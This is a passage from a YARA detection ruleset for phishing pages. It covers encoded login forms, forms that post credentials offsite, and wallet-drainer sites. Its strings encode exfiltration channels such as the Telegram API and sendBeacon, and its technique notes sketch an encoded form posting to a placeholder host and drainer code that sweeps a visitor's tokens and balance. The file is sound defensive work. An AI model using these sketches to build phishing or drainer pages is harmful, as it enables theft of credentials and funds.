        $x2 = "\\x28\\x27\\x68\\x74\\x74\\x70" ascii nocase
        $r2 = "ptth'(" ascii
        // url:'http
        $b3 = "url:'http" base64
        $p3 = "%75%72%6C%3A%27%68%74%74%70" ascii nocase
        $c3 = /117,\s{0,2}114,\s{0,2}108,\s{0,2}58,\s{0,2}39,\s{0,2}104,\s{0,2}116,\s{0,2}116,\s{0,2}112\b/
        $e3 = /&#(117|x75);&#(114|x72);&#(108|x6c);&#(58|x3a);&#(39|x27);&#(104|x68);&#(116|x74);&#(116|x74);&#(112|x70);/ nocase
        $x3 = "\\x75\\x72\\x6c\\x3a\\x27\\x68\\x74\\x74\\x70" ascii nocase
        $r3 = "ptth':lru" ascii
        // .src='http
        $b4 = ".src='http" base64
        $p4 = "%2E%73%72%63%3D%27%68%74%74%70" ascii nocase
        $c4 = /46,\s{0,2}115,\s{0,2}114,\s{0,2}99,\s{0,2}61,\s{0,2}39,\s{0,2}104,\s{0,2}116,\s{0,2}116,\s{0,2}112\b/
        $e4 = /&#(46|x2e);&#(115|x73);&#(114|x72);&#(99|x63);&#(61|x3d);&#(39|x27);&#(104|x68);&#(116|x74);&#(116|x74);&#(112|x70);/ nocase
        $x4 = "\\x2e\\x73\\x72\\x63\\x3d\\x27\\x68\\x74\\x74\\x70" ascii nocase
        $r4 = "ptth'=crs." ascii
        // XMLHttpRequest
        $b5 = "XMLHttpRequest" base64
        $p5 = "%58%4D%4C%48%74%74%70%52%65%71%75%65%73%74" ascii nocase
        $c5 = /88,\s{0,2}77,\s{0,2}76,\s{0,2}72,\s{0,2}116,\s{0,2}116,\s{0,2}112,\s{0,2}82,\s{0,2}101,\s{0,2}113,\s{0,2}117,\s{0,2}101,\s{0,2}115,\s{0,2}116\b/
        $e5 = /&#(88|x58);&#(77|x4d);&#(76|x4c);&#(72|x48);&#(116|x74);&#(116|x74);&#(112|x70);&#(82|x52);&#(101|x65);&#(113|x71);&#(117|x75);&#(101|x65);&#(115|x73);&#(116|x74);/ nocase
        $x5 = "\\x58\\x4d\\x4c\\x48\\x74\\x74\\x70\\x52\\x65\\x71\\x75\\x65\\x73\\x74" ascii nocase
        $r5 = "tseuqeRpttHLMX" ascii
        // sendBeacon
        $b6 = "sendBeacon" base64
        $p6 = "%73%65%6E%64%42%65%61%63%6F%6E" ascii nocase
        $c6 = /115,\s{0,2}101,\s{0,2}110,\s{0,2}100,\s{0,2}66,\s{0,2}101,\s{0,2}97,\s{0,2}99,\s{0,2}111,\s{0,2}110\b/
        $e6 = /&#(115|x73);&#(101|x65);&#(110|x6e);&#(100|x64);&#(66|x42);&#(101|x65);&#(97|x61);&#(99|x63);&#(111|x6f);&#(110|x6e);/ nocase
        $x6 = "\\x73\\x65\\x6e\\x64\\x42\\x65\\x61\\x63\\x6f\\x6e" ascii nocase
        $r6 = "nocaeBdnes" ascii
        // api.telegram.org
        $b7 = "api.telegram.org" base64
        $p7 = "%61%70%69%2E%74%65%6C%65%67%72%61%6D%2E%6F%72%67" ascii nocase
        $c7 = /97,\s{0,2}112,\s{0,2}105,\s{0,2}46,\s{0,2}116,\s{0,2}101,\s{0,2}108,\s{0,2}101,\s{0,2}103,\s{0,2}114,\s{0,2}97,\s{0,2}109,\s{0,2}46,\s{0,2}111,\s{0,2}114,\s{0,2}103\b/
        $e7 = /&#(97|x61);&#(112|x70);&#(105|x69);&#(46|x2e);&#(116|x74);&#(101|x65);&#(108|x6c);&#(101|x65);&#(103|x67);&#(114|x72);&#(97|x61);&#(109|x6d);&#(46|x2e);&#(111|x6f);&#(114|x72);&#(103|x67);/ nocase
        $x7 = "\\x61\\x70\\x69\\x2e\\x74\\x65\\x6c\\x65\\x67\\x72\\x61\\x6d\\x2e\\x6f\\x72\\x67" ascii nocase
        $r7 = "gro.margelet.ipa" ascii
        $q1 = /action%3D(%22|%27)?(https?%3A)?%2F%2F/ nocase
        $q2 = /(%28|url%3A)(%27|%22)https?%3A/ nocase
    condition:
        any of them
}

/* Documentation and translations (not script sources). */
private rule phishing_html__doc
{
    condition:
        extension == "md" or extension == "markdown" or extension == "rst" or extension == "adoc" or
        extension == "asciidoc" or extension == "txt" or extension == "text" or extension == "po" or
        extension == "pot"
}

/* What turns the blob into the page. */
private rule phishing_html__decoder_sink
{
    strings:
        $d1 = "document.write" ascii
        $d2 = /\.innerHTML\s{0,2}=/
        $d3 = /data:text\/html;base64,/ nocase
        $d4 = /\.insertAdjacentHTML\s{0,2}\(/
    condition:
        any of them
}

rule phishing_html_encoded_login_form : phishing
{
    meta:
        description = "Page that writes an encoded login or card form (base64, %XX, character codes, entities, hex escapes, reversed text) with document.write, innerHTML or a data: iframe"
        severity = "medium"
        technique = "document.write(unescape('%3Cform..type%3D%22password')) / document.write(atob('PGZvcm0..')) / <iframe src=data:text/html;base64,..> / String.fromCharCode(60,102,111,114,109,..)"
        seen = "none"
        tuned_on = "phishgen2, heldout4"
    condition:
        filesize < 2MB and phishing_html__decoder_sink and phishing_html__enc_cred and phishing_html__enc_form and
        not phishing_html__doc
}

rule phishing_html_encoded_form_posts_offsite : phishing
{
    meta:
        description = "Page that writes an encoded login or card form whose hidden markup posts (or whose hidden script sends) to an absolute address: the decoded layer is a phishing page"
        severity = "high"
        technique = "document.write(atob('<base64 of <form action=\"https://x.example/p.php\"> + password field>')) and the other encodings"
        seen = "none"
        tuned_on = "phishgen2, heldout4"
    condition:
        filesize < 2MB and phishing_html__decoder_sink and phishing_html__enc_cred and
        phishing_html__enc_offsite and not phishing_html__doc
}

/* ------------------------------------------------------------------------
 * Round 9 (docs/rules.md, "Phishing kits, round 9"): the wallet drainer.
 * No phrase is asked: the page connects the visitor's wallet and has it
 * sign away what it holds — the native balance sent to an address fixed in
 * the page, every token's full balance transferred, all NFTs approved —
 * under an airdrop or claim story. A real dApp asks for one amount the
 * user typed, or approves its own router, and sweeps nothing.
 * ---------------------------------------------------------------------- */
rule phishing_html_wallet_drainer : phishing
{
    meta:
        description = "Wallet drainer page: connects the visitor's wallet under an airdrop/claim story and sends its whole balance, every token's balance or all NFTs to an address fixed in the page"
        severity = "high"
        technique = "const RECEIVER = '0x..'; await ethereum.request({method: 'eth_requestAccounts'}); for (t of TOKENS) c.approve(RECEIVER, MaxUint256); s.sendTransaction({to: RECEIVER, value: bal.mul(95).div(100)})"
        seen = "none"
        tuned_on = "tests/fixtures/phishing"
    strings:
        $eth1 = "eth_requestAccounts" ascii
        $eth2 = "wallet_requestPermissions" ascii
        $eth3 = /ethereum\.enable\s{0,2}\(/
        $recv = /=\s{0,2}["']0x[0-9a-fA-F]{40}["']/
        /* the native balance swept: value derived from getBalance */
        $d1 = /sendTransaction\s{0,2}\(\s{0,2}\{[^}]{0,160}value\s{0,2}:\s{0,2}[\w.]{0,30}(bal|balance)\b/ nocase
        /* a token's whole balance transferred */
        $d2 = /\.transfer\s{0,2}\(\s{0,2}\w{1,30}\s{0,2},\s{0,2}[\w.]{0,30}(bal|balance)\b/ nocase
        $d3 = /\.approve\s{0,2}\([^)\n]{0,80}(MaxUint256|MAX_UINT|maxUint|0xffffffffffffffffffffffff|2n?\s{0,2}\*\*\s{0,2}256)/
        $d4 = /setApprovalForAll\s{0,2}\(\s{0,2}\w{1,30}\s{0,2},\s{0,2}true/
        $lure = /\b(claim|airdrop|eligible|reward|free mint|giveaway)/ nocase
    condition:
        filesize < 1MB and any of ($eth*) and $recv and $lure and ($d1 or $d2 or ($d3 and $d4)) and
        not phishing_html__not_a_page or
        (filesize < 1MB and any of ($eth*) and $recv and $lure and ($d1 or $d2) and (extension == "js" or extension == "mjs"))
}
